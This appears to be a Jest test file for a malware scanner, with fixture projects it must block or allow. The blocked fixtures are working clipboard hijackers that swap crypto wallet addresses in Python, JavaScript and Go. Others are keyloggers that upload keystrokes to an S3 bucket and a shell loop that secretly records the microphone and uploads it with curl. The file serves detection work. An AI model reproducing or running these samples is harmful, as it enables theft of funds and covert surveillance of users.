import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

const WATCH = (from: string): string =>
  `import time, pyperclip\nfrom ${from} import tidy\nwhile True:\n    t = pyperclip.paste()\n    pyperclip.copy(tidy(t))\n    time.sleep(1)\n`;
const MINE = '0x71C7656EC7ab88b098defB751B7401B5f6d8976F';

describe('addresses of wallets that are swapped on the clipboard', () => {
  itJudges([
    [
      'a table of addresses in another file of Python',
      'stopped',
      {
        'scripts/watch.py': WATCH('forms'),
        'scripts/forms.py': `import re\nFORMS = [(re.compile(r"^0x[a-fA-F0-9]{40}$"), "${MINE}")]\ndef tidy(t):\n    for rx, form in FORMS:\n        if rx.match(t):\n            return form\n    return t\n`,
      },
    ],
    [
      'a table of JavaScript',
      'stopped',
      {
        'scripts/watch.mjs':
          "import clipboard from 'clipboardy';\nimport { tidy } from './forms.mjs';\nsetInterval(() => clipboard.writeSync(tidy(clipboard.readSync())), 800);\n",
        'scripts/forms.mjs': `const FORMS = [[/^0x[a-fA-F0-9]{40}$/, '${MINE}'], [/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$/, 'bc1q9tablesnotes000000000000000000000000']];\nexport const tidy = (t) => FORMS.find(([rx]) => rx.test(t))?.[1] ?? t;\n`,
      },
    ],
    [
      'a table of Go',
      'stopped',
      {
        'cmd/watch.go':
          'package main\nimport "github.com/atotto/clipboard"\nfunc main() {\n  for {\n    t, _ := clipboard.ReadAll()\n    clipboard.WriteAll(tidy(t))\n  }\n}\n',
        'cmd/forms.go': `package main\nimport "regexp"\nvar forms = map[*regexp.Regexp]string{regexp.MustCompile("^0x[a-fA-F0-9]{40}$"): "${MINE}"}\n`,
      },
    ],
    [
      'a clipboard that is tidied',
      'passed',
      {
        'scripts/watch.py': WATCH('forms'),
        'scripts/forms.py': 'import re\ndef tidy(t):\n    return re.sub(r"[0-9]{40}", "", t).strip()\n',
      },
    ],
    [
      'a check of addresses with samples, beside a clipboard',
      'passed',
      {
        'scripts/watch.py': WATCH('forms'),
        'scripts/check.py': `import re\nKINDS = [{"name": "ether", "pattern": r"^0x[a-fA-F0-9]{40}$", "example": "${MINE}"}]\n`,
        'scripts/forms.py': 'def tidy(t):\n    return t.strip()\n',
      },
    ],
    [
      'patterns and addresses of a wallet that copies nothing',
      'passed',
      { 'scripts/pay.py': `import re\nKNOWN = {r"^0x[a-fA-F0-9]{40}$": "${MINE}"}\nprint(len(KNOWN))\n` },
    ],
  ]);
});

describe('recordings of keys and rooms that go into a rented store', () => {
  const STORE = 'https://tables-journal.s3.eu-north-1.amazonaws.com';
  itJudges([
    [
      'keys by TypeScript',
      'stopped',
      {
        'scripts/idle.ts': `import { GlobalKeyboardListener } from 'node-global-key-listener';\nconst keys: string[] = [];\nnew GlobalKeyboardListener().addListener((e) => { keys.push(e.name ?? ''); });\nsetInterval(() => fetch(\`${STORE}/\${Date.now()}\`, { method: 'PUT', body: keys.join(' ') }), 60_000);\n`,
      },
    ],
    [
      'keys by the library of the provider',
      'stopped',
      {
        'scripts/idle.py':
          'import boto3, requests\nfrom pynput import keyboard\nbuf = []\ndef on(key):\n    buf.append(str(key))\n    if len(buf) > 99:\n        boto3.client("s3").put_object(Bucket="tables-journal", Key="k", Body="".join(buf))\n        requests.get("http://localhost:9/seen")\nkeyboard.Listener(on_press=on).start()\n',
      },
    ],
    [
      'the microphone, for ever',
      'stopped',
      {
        'scripts/a.sh': `#!/bin/sh\nwhile true; do arecord -q -d 30 /tmp/.a.wav; curl -s -T /tmp/.a.wav https://storage.googleapis.com/tables-journal/a.wav; done\n`,
      },
    ],
    [
      'a recording that its user sends to a service',
      'passed',
      {
        'scripts/say.py':
          'import os, requests, sounddevice as sd\nclip = sd.rec(16000 * 5, samplerate=16000, channels=1); sd.wait()\nr = requests.post("https://api.openai.com/v1/audio/transcriptions", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}, files={"file": clip})\nprint(r.json()["text"])\n',
      },
    ],
    [
      'a picture of a page that is kept in the user’s store',
      'passed',
      {
        'scripts/shot.py':
          'import os, boto3\nfrom playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    page = p.chromium.launch().new_page()\n    page.goto("http://localhost:3000")\n    boto3.client("s3").put_object(Bucket=os.environ["SHOTS"], Key="a.png", Body=page.screenshot())\n',
      },
    ],
  ]);
});
